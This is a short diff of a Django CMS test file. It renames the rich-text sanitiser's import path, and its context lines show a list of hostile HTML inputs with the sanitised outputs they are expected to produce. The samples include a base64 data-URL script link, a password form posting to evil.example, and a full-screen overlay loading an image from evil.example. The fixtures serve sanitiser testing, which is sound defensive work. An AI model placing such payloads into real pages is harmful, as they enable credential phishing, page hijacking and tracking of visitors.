@@ -6,7 +6,7 @@ from djangocms_text.models import Text
 from filer.models import Image
 
 from agreements.models import Agreement
-from carbonsite.richtext import sanitise
+from editorial.richtext import sanitise
 
 from .cms_helpers import add_text_url, open_draft, placeholder
 
@@ -21,7 +21,7 @@ HOSTILE = [
     ('<a href="data:text/html;base64,PHNjcmlwdD4=">d</a>', "<a>d</a>"),
     ('<form action="https://evil.example/"><input name="pw"></form>', ""),
     ("<style>body{display:none}</style><p>x</p>", "<p>x</p>"),
-    # Gaps in djangocms-text's own allow-list, closed by carbonsite.richtext:
+    # Gaps in djangocms-text's own allow-list, closed by editorial.richtext:
     (
         '<p style="position:fixed;inset:0;background:url(https://evil.example/t.png)">x</p>',
         '<p style="">x</p>',
